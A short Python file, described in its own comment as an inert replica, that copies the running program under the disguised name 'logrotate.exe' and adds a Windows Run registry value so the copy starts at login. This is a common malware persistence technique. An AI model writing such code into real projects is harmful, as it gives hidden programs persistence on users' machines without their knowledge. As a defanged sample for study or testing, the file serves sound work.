# Replica: copies the running program and adds a Run key value. Inert: only
# setup.py refers to it, after an early return; the copy goes to a temporary
# directory; winreg exists only on Windows.
import os
import shutil
import sys
import tempfile

RUN = r"Software\Microsoft\Windows\CurrentVersion\Run"


def register_windows():
    import winreg

    dest = os.path.join(tempfile.mkdtemp(), "logrotate.exe")
    shutil.copy(sys.argv[0], dest)
    key = winreg.OpenKey(winreg.HKEY_CURRENT_USER, RUN, 0, winreg.KEY_SET_VALUE)
    winreg.SetValueEx(key, "LogRotate", 0, winreg.REG_SZ, dest)
